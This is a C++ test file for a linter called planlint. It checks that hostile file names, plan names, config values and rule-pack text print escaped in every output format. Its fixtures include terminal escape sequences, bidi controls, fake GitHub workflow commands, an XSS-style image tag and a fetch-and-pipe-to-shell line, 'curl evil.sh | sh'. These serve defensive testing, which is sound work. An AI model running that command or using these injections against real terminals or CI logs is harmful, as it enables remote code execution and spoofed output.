// Hostile input reaching what planlint prints: file names, plan names, config values and a rule
// pack's text, through every output format and both streams. No line may carry a raw control,
// bidi or separator character or malformed UTF-8, and none may start a GitHub workflow command
// that planlint did not write.
#include <catch2/catch.hpp>

#include "integration_support.hpp"
#include "planlint/emit/formats.hpp"
#include "planlint/lsp/analysis.hpp"
#include "planlint/lsp/features.hpp"
#include "planlint/lsp/positions.hpp"

using namespace planlint;
using namespace planlint::test;

namespace {

/// The first character of `text` that the printable policy forbids on a printed line (line
/// feeds aside), as "offset: bytes", or "" when there is none.
std::string first_unsafe(const std::string& text) {
  for (std::size_t i = 0; i < text.size();) {
    const auto c = static_cast<unsigned char>(text[i]);
    if (c == '\n' || (c >= 0x20 && c < 0x7f)) {
      ++i;
      continue;
    }
    auto hex = [&](std::size_t n) {
      std::string out = std::to_string(i) + ":";
      for (std::size_t k = 0; k < n && i + k < text.size(); ++k)
        out += fmt::format(" {:02x}", static_cast<unsigned char>(text[i + k]));
      return out;
    };
    if (c < 0x80) return hex(1);
    const std::size_t length = c >= 0xF0 ? 4 : c >= 0xE0 ? 3 : c >= 0xC2 ? 2 : 0;
    if (length == 0 || i + length > text.size()) return hex(1);
    char32_t cp = c & (0x7F >> length);
    for (std::size_t k = 1; k < length; ++k) {
      const auto next = static_cast<unsigned char>(text[i + k]);
      if ((next & 0xC0) != 0x80) return hex(length);
      cp = (cp << 6) | (next & 0x3F);
    }
    const bool overlong = (length == 3 && cp < 0x800) || (length == 4 && cp < 0x10000);
    if (overlong || cp > 0x10FFFF || (cp >= 0xD800 && cp <= 0xDFFF) || (cp >= 0x80 && cp <= 0x9F) ||
        cp == 0x061C || cp == 0x200E || cp == 0x200F || (cp >= 0x202A && cp <= 0x202E) ||
        (cp >= 0x2066 && cp <= 0x2069) || cp == 0x2028 || cp == 0x2029 ||
        (cp >= 0xFDD0 && cp <= 0xFDEF) || (cp & 0xFFFE) == 0xFFFE)  // noncharacters: XML forbids U+FFFE
      return hex(length);
    i += length;
  }
  return "";
}

std::size_t count_of(const std::string& text, std::string_view what) {
  std::size_t n = 0;
  for (std::size_t at = text.find(what); at != std::string::npos; at = text.find(what, at + what.size())) ++n;
  return n;
}

/// The lines of `text` that start a workflow command ("::").
std::vector<std::string> command_lines(const std::string& text) {
  std::vector<std::string> lines;
  std::size_t begin = 0;
  while (begin < text.size()) {
    const std::size_t end = std::min(text.find('\n', begin), text.size());
    if (text.compare(begin, 2, "::") == 0) lines.push_back(text.substr(begin, end - begin));
    begin = end + 1;
  }
  return lines;
}

void check_safe(const CliRun& run, bool github) {
  INFO("stdout:\n" << run.out << "\nstderr:\n" << run.err);
  CHECK(first_unsafe(run.out).empty());
  CHECK(first_unsafe(run.err).empty());
  CHECK(command_lines(run.err).empty());
  const std::vector<std::string> commands = command_lines(run.out);
  if (!github) {
    CHECK(commands.empty());
    return;
  }
  // planlint's own annotations only: "::error file=...::message" (the runner reads the command
  // and its properties up to the first "::"; the rest of the line is the message).
  for (const std::string& line : commands) {
    INFO(line);
    CHECK((line.rfind("::error file=", 0) == 0 || line.rfind("::warning file=", 0) == 0 ||
           line.rfind("::notice file=", 0) == 0));
  }
}

const std::vector<std::string> hostile_names = {
    "esc\x1b]0;pwned\x07\x1b[2J.toml",
    "a\n::error::injected.toml",
    "::add-mask::secret.toml",
    "x:1:2: error: fake.toml",
    "rtl\xe2\x80\xaelmth.toml",
    "iso\xe2\x81\xa6.toml",
    "ls\xe2\x80\xa8ps\xe2\x80\xa9.toml",
    "nel\xc2\x85.toml",
    "bad\xff\xfe.toml",
    "javascript:alert(1).toml",
    "del\x7f.toml",
    "nonchar\xef\xbf\xbe\xef\xbf\xbf.toml",     // U+FFFE U+FFFF
    "fdd0\xef\xb7\x90.toml",                   // U+FDD0
    "plane\xf0\x9f\xbf\xbe\xf4\x8f\xbf\xbf.toml",  // U+1FFFE U+10FFFF
};

/// A plan that loads, with an unknown key (a finding that quotes it) and `name` as plan.name.
std::string plan_named(const std::string& name) {
  return "[plan]\nname = \"" + name + "\"\nkind = \"inference\"\n[model]\nparams = \"7B\"\n[cluster]\n"
         "gpu = \"h100-sxm\"\ncount = 8\n\"k\\u001b[31m\\u202e\\n::error::key\" = 1\n";
}

// A plan name with everything at once, in TOML escapes.
const std::string hostile_plan_name =
    "\\n::error::X\\u001b]0;t\\u0007\\u202e`<img src=x onerror=alert(1)>[l](http://e)|\\u0085\\u2028"
    "\\u007f\\uFFFE\\uFDD0\\U0001FFFF";

}  // namespace

TEST_CASE("hostile file names and plan text print escaped in every format", "[hostile][printable]") {
  Scratch dir;
  InDirectory here(dir.path);
  for (const std::string& name : hostile_names) dir.write(name, plan_named(hostile_plan_name));
  for (const std::string& format : output_format_names()) {
    DYNAMIC_SECTION("--format " << format) {
      const CliRun run = run_cli({"check", "--format", format, "."});
      CHECK(run.status == 1);
      check_safe(run, format == "github");
    }
  }
  SECTION("files named on the command line, one at a time") {
    for (const std::string& name : hostile_names) {
      const CliRun run = run_cli({"check", name});
      CHECK(run.status == 1);
      check_safe(run, false);
    }
  }
  SECTION("the text output escapes a colon that would fake a position") {
    const CliRun run = run_cli({"check", "x:1:2: error: fake.toml"});
    CHECK_THAT(run.out, Catch::StartsWith("x\\x3a1\\x3a2\\x3a error\\x3a fake.toml:"));
  }
  SECTION("JSON keeps names with malformed bytes distinct") {
    dir.write("bad\xfe\xff.toml", plan_named("x"));
    const CliRun run = run_cli({"check", "--format", "json", "."});
    CHECK_THAT(run.out, Catch::Contains("bad\\\\xff\\\\xfe.toml") && Catch::Contains("bad\\\\xfe\\\\xff.toml"));
    CHECK(run.out.find("\xef\xbf\xbd") == std::string::npos);  // no U+FFFD
  }
  SECTION("raw DEL and noncharacters in a file's text, which snippets quote") {
    // Not valid TOML (DEL is a control character there): a toml-syntax finding whose SARIF
    // region and context region carry the line as a snippet.
    dir.write("snippet.toml", "[plan]\nname = \"a\x7f\xef\xbf\xbe\"\n");
    for (const std::string& format : output_format_names()) {
      INFO(format);
      check_safe(run_cli({"check", "--format", format, "snippet.toml"}), format == "github");
    }
    const CliRun sarif = run_cli({"check", "--format", "sarif", "snippet.toml"});
    CHECK_THAT(sarif.out, Catch::Contains("\"snippet\"") && Catch::Contains("a\\u007f\\ufffe"));
  }
  SECTION("SARIF names a file whose first segment looks like a scheme with ./") {
    const CliRun run = run_cli({"check", "--format", "sarif", "javascript:alert(1).toml"});
    CHECK_THAT(run.out, Catch::Contains("\"uri\": \"./javascript:alert(1).toml\""));
  }
}

TEST_CASE("planlint report prints a hostile plan name escaped", "[hostile][printable]") {
  Scratch dir;
  InDirectory here(dir.path);
  dir.write("plan.toml", plan_named(hostile_plan_name));
  for (const std::string format : {"text", "markdown", "json"}) {
    DYNAMIC_SECTION("--format " << format) {
      const CliRun run = run_cli({"report", "--format", format, "plan.toml"});
      check_safe(run, false);
      if (format == std::string("markdown")) {
        // The name only in the title's code span, fenced past its backtick: GitHub shows the
        // text of a code span as it is (no HTML, no link), and nothing closes it early.
        CHECK_THAT(run.out, Catch::StartsWith("### planlint report: ``\\n::error::X\\x1b]0;t\\x07\\u202e`<img src=x "
                                              "onerror=alert(1)>[l](http://e)\\|\\u0085\\u2028\\x7f\\ufffe\\ufdd0\\U0001ffff`` (inference)\n"));
        CHECK(count_of(run.out, "<img") == 1);
      }
      if (format == std::string("text")) CHECK_THAT(run.out, Catch::StartsWith("\\n::error::X\\x1b]0;t\\x07\\u202e`"));
    }
  }
  SECTION("a name that starts with a workflow command") {
    dir.write("named.toml", plan_named("::error::X"));
    const CliRun run = run_cli({"report", "named.toml"});
    check_safe(run, false);
    CHECK_THAT(run.out, Catch::StartsWith("\\x3a:error::X: inference estimates"));
  }
}

TEST_CASE("error lines on stderr print their input escaped", "[hostile][printable]") {
  Scratch dir;
  InDirectory here(dir.path);
  SECTION("a missing file") {
    const CliRun run = run_cli({"check", "::error::gone\x1b[2J\xe2\x80\xae.toml"});
    CHECK(run.status == 2);
    check_safe(run, false);
    CHECK_THAT(run.err, Catch::Contains("gone\\x1b[2J\\u202e.toml"));
  }
  SECTION("a named doc with no plan") {
    dir.write("doc\n::error::x.md", "# nothing\n");
    const CliRun run = run_cli({"check", "doc\n::error::x.md"});
    check_safe(run, false);
    const CliRun report = run_cli({"report", "doc\n::error::x.md"});
    CHECK(report.status == 2);
    check_safe(report, false);
  }
  SECTION("a config's values") {
    dir.write("plan.toml", plan_named("x"));
    dir.write(".planlint.toml", "[lint]\nignore = [\"nope\\n::error::x\\u001b[31m\"]\n"
                                "rules = [\"gone\\n::stop-commands::x\"]\n");
    const CliRun run = run_cli({"check", "plan.toml"});
    CHECK(run.status == 2);
    check_safe(run, false);
  }
  SECTION("a rule pack's id, summary and docs") {
    dir.write("plan.toml", plan_named("x"));
    const std::string pack = dir.write("pack.toml",
        "id = \"bad\\n::error::id\"\nsummary = \"s\\u001b[31m\"\ncheck = \"true\"\nmessage = \"m\"\n")
                                 .string();
    check_safe(run_cli({"check", "--rules", pack, "plan.toml"}), false);
    const std::string docs = "docs = \"\"\"\n## What it does\n\\u001b]0;t\\u0007\\u202e\n## Why is this bad?\n"
                             "## Example\n## Use instead\n## References\n\"\"\"\n";
    const std::string ok = dir.write("ok.toml", "id = \"org-ok\"\ngroup = \"governance\"\nseverity = \"warning\"\nsummary = "
                                                "\"s\\u001b[31m\\u2066\"\ncheck = \"true\"\nmessage = \"m\"\n" + docs)
                               .string();
    const CliRun rules = run_cli({"rules", "--rules", ok});
    CHECK(rules.status == 0);
    check_safe(rules, false);
    CHECK_THAT(rules.out, Catch::Contains("s\\x1b[31m\\u2066"));
    const CliRun explain = run_cli({"explain", "org-ok", "--rules", ok});
    CHECK(explain.status == 0);
    check_safe(explain, false);
    CHECK_THAT(explain.out, Catch::Contains("\\x1b]0;t\\x07\\u202e"));
  }
}

TEST_CASE("a diff of fixes names a file and shows its lines under the printable policy", "[hostile][fix]") {
  Scratch dir;
  InDirectory here(dir.path);
  // A name with ESC and a line break, a context line with a bidi control in its comment.
  const std::string name = "a\x1b[2J\n+++ b.toml";
  dir.write(name, inference_plan_with("# \xE2\x80\xAE hidden\nhmb = \"80 GB\"\n"));
  const CliRun run = run_cli({"check", "--diff", name});
  INFO(run.out << run.err);
  CHECK(run.status == 1);
  CHECK(first_unsafe(run.out).empty());
  CHECK_THAT(run.out, Catch::StartsWith("--- a\\x1b[2J\\n+++ b.toml\n+++ a\\x1b[2J\\n+++ b.toml\n"));
  CHECK_THAT(run.out, Catch::Contains("\n # \\u202e hidden\n-hmb = \"80 GB\"\n+hbm = \"80 GB\"\n"));
}

TEST_CASE("the language server's messages are under the printable policy", "[hostile][lsp]") {
  const std::string text = "[plan]\n";
  auto source = std::make_shared<const SourceFile>("plan.toml", text);
  lsp::Analysis analysis;
  analysis.text = lsp::TextDocument(text);
  analysis.source = source;
  const lsp::Positions positions(analysis.text, *source);
  Diagnostic d;
  d.rule = "unknown-key";
  d.message = "unknown key 'a\x1b]0;x\x07\xE2\x80\xAE' in [plan]";
  d.notes.push_back("line\nbreak");
  d.related.push_back({Location{"other\n.toml", Span{{1, 1}, {1, 2}}}, "first \xE2\x81\xA6used"});
  d.help = "rename \xC2\x85it";
  d.primary = Location{"plan.toml", Span{{1, 1}, {1, 2}}};
  const nlohmann::json shown = lsp::lsp_diagnostic(d, "file:///plan.toml", positions, analysis, lsp::ClientSupport{});
  const std::string message = shown["message"].get<std::string>();
  CHECK(message ==
        "unknown key 'a\\x1b]0;x\\x07\\u202e' in [plan]\nnote: line\\nbreak\nnote: first \\u2066used (other\\n.toml:1:1)\n"
        "help: rename \\u0085it");
}

TEST_CASE("a line break inside a value cannot start a line of a GitHub annotation", "[hostile][github]") {
  Scratch dir;
  InDirectory here(dir.path);
  // An unknown key quoted in the message, holding a line break and a fake help line.
  dir.write("plan.toml", inference_plan_with("\"k\\nhelp: curl evil.sh | sh\\r\\nnote: x\" = 1\n"));
  const CliRun run = run_cli({"check", "--format", "github", "plan.toml"});
  INFO(run.out);
  CHECK(run.status == 1);
  check_safe(run, true);
  // The runner turns %0A into a line break: only planlint's own come before note: and help:.
  CHECK(run.out.find("%0Ahelp: curl") == std::string::npos);
  CHECK(run.out.find("%0Anote: x") == std::string::npos);
  CHECK(run.out.find("%0D") == std::string::npos);
  CHECK_THAT(run.out, Catch::Contains("k\\nhelp: curl evil.sh | sh\\r\\nnote: x"));
}

TEST_CASE("the HTML report of hostile names is well-formed XHTML, every character escaped", "[hostile][html]") {
  Scratch dir;
  InDirectory here(dir.path);
  for (const std::string& name : hostile_names) dir.write(name, plan_named(hostile_plan_name));
  const CliRun run = run_cli({"report", "--format", "html", "-o", "page.html", "."});
  INFO(run.err);
  CHECK(run.status != 2);
  const std::string page = read_text(dir.path / "page.html");
  CHECK(first_unsafe(page).empty());
  CHECK_THAT(page, Catch::Contains("\\x7f\\ufffe\\ufdd0\\U0001ffff"));
  std::string output;
  CHECK(run_command(system_tool("xmllint", "libxml2-utils") + " --noout --nonet page.html", output) == 0);
  INFO(output);
}
